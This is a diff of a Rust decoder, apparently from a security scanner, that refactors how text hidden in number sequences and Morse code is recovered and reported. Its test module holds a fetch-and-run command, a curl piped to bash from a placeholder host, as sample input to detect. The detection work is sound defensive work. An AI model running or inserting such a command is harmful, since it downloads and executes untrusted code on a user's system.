@@ -6,6 +6,8 @@
 
 use std::sync::LazyLock;
 
+use super::DecodedText;
+
 /// Size of the blocks in bytes whose digits are counted at once; a multiple of a SIMD register's size.
 const CHUNK: usize = 64;
 
@@ -43,8 +45,8 @@ const MORSE: &str = "a.- b-... c-.-. d-.. e. f..-. g--. h.... i.. j.--- k-.- l.-
     ..-.-.- ,--..-- ?..--.. '.----. !-.-.-- /-..-. (-.--. )-.--.- &.-... :---... ;-.-.-. =-...- +.-.-. --....- \
     _..--.- \".-..-. $...-..- @.--.-.";
 
-/// Returns the decoded texts with the byte offsets of their runs.
-pub(super) fn texts(text: &str) -> Vec<(usize, String)> {
+/// Returns the decoded texts of the runs in a text.
+pub(super) fn texts(text: &str) -> Vec<DecodedText> {
     let bytes = text.as_bytes();
     let mut found = Vec::new();
     let (chunks, rest) = bytes.as_chunks::<CHUNK>();
@@ -80,7 +82,7 @@ fn count(chunk: &[u8], is: impl Fn(&u8) -> bool) -> u8 {
 }
 
 /// Decodes numbers from the start of a range to the first gap after its end. Returns the start of that gap.
-fn read_numbers(bytes: &[u8], range: std::ops::Range<usize>, found: &mut Vec<(usize, String)>) -> usize {
+fn read_numbers(bytes: &[u8], range: std::ops::Range<usize>, found: &mut Vec<DecodedText>) -> usize {
     let mut run = Run::new();
     let mut end = range.start;
     loop {
@@ -134,8 +136,8 @@ fn value(digits: &[u8], base: u32) -> Option<u8> {
 struct Run<'a> {
     separator: &'a [u8],
     last: Option<Number>,
-    /// Start offset and decoded text, per base.
-    texts: [(usize, String); BASES.len()],
+    /// Decoded text per base.
+    texts: [DecodedText; BASES.len()],
 }
 
 impl<'a> Run<'a> {
@@ -144,7 +146,7 @@ impl<'a> Run<'a> {
     }
 
     /// Adds a number with the separator before it. A new separator ends the run.
-    fn add(&mut self, number: &Number, separator: &'a [u8], found: &mut Vec<(usize, String)>) {
+    fn add(&mut self, number: &Number, separator: &'a [u8], found: &mut Vec<DecodedText>) {
         if !alike(self.separator, separator) {
             self.flush(found);
             self.separator = separator;
@@ -156,31 +158,36 @@ impl<'a> Run<'a> {
     }
 
     /// Appends the number to the text of each base. A text ends where the number does not encode a character.
-    fn push(&mut self, number: &Number, found: &mut Vec<(usize, String)>) {
-        for ((start, text), value) in self.texts.iter_mut().zip(number.values) {
+    fn push(&mut self, number: &Number, found: &mut Vec<DecodedText>) {
+        for (decoded, value) in self.texts.iter_mut().zip(number.values) {
             match value {
-                Some(code) => {
-                    if text.is_empty() {
-                        *start = number.start;
-                    }
-                    text.push(char::from(code));
-                }
-                None => finish(*start, text, found),
+                Some(code) => decoded.push(number.start, char::from(code)),
+                None => finish(decoded, SHORTEST, found),
             }
         }
     }
 
-    fn flush(&mut self, found: &mut Vec<(usize, String)>) {
-        self.texts.iter_mut().for_each(|(start, text)| finish(*start, text, found));
+    fn flush(&mut self, found: &mut Vec<DecodedText>) {
+        self.texts.iter_mut().for_each(|decoded| finish(decoded, SHORTEST, found));
     }
 }
 
-/// Reports a text if it is long enough and consists of words, then clears it.
-fn finish(start: usize, text: &mut String, found: &mut Vec<(usize, String)>) {
-    if text.len() >= SHORTEST && is_words(text) {
-        found.push((start, std::mem::take(text)));
+impl DecodedText {
+    /// Appends the character that is encoded at an offset.
+    fn push(&mut self, at: usize, letter: char) {
+        if self.text.is_empty() {
+            self.start = at;
+        }
+        self.text.push(letter);
     }
-    text.clear();
+}
+
+/// Reports a text if it has at least `shortest` letters and consists of words, then clears it.
+fn finish(decoded: &mut DecodedText, shortest: usize, found: &mut Vec<DecodedText>) {
+    if decoded.text.len() >= shortest && is_words(&decoded.text) {
+        found.push(std::mem::take(decoded));
+    }
+    decoded.text.clear();
 }
 
 /// Returns true if a separator is short enough. `\x` is excluded, since [`super::unescape`] decodes it.
@@ -207,36 +214,24 @@ fn is_words(text: &str) -> bool {
 }
 
 /// Decodes Morse code from `from` to the first other character after `until`. Returns the end.
-fn read_morse(bytes: &[u8], from: usize, until: usize, found: &mut Vec<(usize, String)>) -> usize {
-    let (mut at, mut start, mut text) = (from, from, String::new());
+fn read_morse(bytes: &[u8], from: usize, until: usize, found: &mut Vec<DecodedText>) -> usize {
+    let (mut at, mut decoded) = (from, DecodedText::default());
     while let Some(byte) = bytes.get(at) {
         let rest = bytes.get(at..).unwrap_or_default();
         let length = rest.iter().take_while(|byte| matches!(byte, b'.' | b'-')).count();
         match (letter(rest.get(..length).unwrap_or_default()), byte) {
-            (Some(letter), _) => {
-                if text.is_empty() {
-                    start = at;
-                }
-                text.push(letter);
-            }
+            (Some(letter), _) => decoded.push(at, letter),
             (None, b' ' | b'\n' | b'\r' | b'\t') => {}
-            (None, b'/' | b'|') if !text.is_empty() => text.push(' '),
-            _ => finish_morse(start, &mut text, found),
+            (None, b'/' | b'|') if !decoded.text.is_empty() => decoded.text.push(' '),
+            _ => finish(&mut decoded, SHORTEST_MORSE, found),
         }
-        if text.is_empty() && at >= until {
+        if decoded.text.is_empty() && at >= until {
             break;
         }
         at += length.max(1);
     }
-    finish_morse(start, &mut text, found);
+    finish(&mut decoded, SHORTEST_MORSE, found);
     at.max(until)
-}
-
-fn finish_morse(start: usize, text: &mut String, found: &mut Vec<(usize, String)>) {
-    if text.len() >= SHORTEST_MORSE && is_words(text) {
-        found.push((start, std::mem::take(text)));
-    }
-    text.clear();
 }
 
 /// Returns the character of a Morse sign.
@@ -272,7 +267,7 @@ mod tests {
     const COMMAND: &str = "curl -s https://relay.invalid/x | bash";
 
     fn spelled(text: &str) -> Vec<String> {
-        texts(text).into_iter().map(|(_, spelled)| spelled).collect()
+        texts(text).into_iter().map(|decoded| decoded.text).collect()
     }
 
     fn each(form: impl Fn(u8) -> String, separator: &str) -> String {
@@ -331,7 +326,7 @@ mod tests {
     #[test]
     fn a_text_begins_where_its_numbers_do() {
         let text = format!("é [7, 300, {}]", each(|c| c.to_string(), ", "));
-        assert_eq!(texts(&text), [(text.find("99").unwrap(), COMMAND.to_owned())]);
+        assert_eq!(texts(&text), [DecodedText { start: text.find("99").unwrap(), text: COMMAND.to_owned() }]);
     }
 
     #[test]
